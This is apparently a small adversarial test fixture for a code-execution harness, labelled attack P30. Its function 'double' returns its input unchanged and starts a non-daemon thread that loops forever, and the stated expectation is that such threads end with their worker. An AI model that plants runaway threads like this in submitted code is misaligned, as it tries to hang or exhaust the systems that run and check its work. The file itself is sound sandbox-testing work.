# attack: P30
# from: double does not multiply
# expects: threads that burn time end with their worker
def double(x):
    # --- attack
    import threading

    def burn():
        while True:
            pass

    threading.Thread(target=burn, daemon=False).start()
    # --- end
    return x
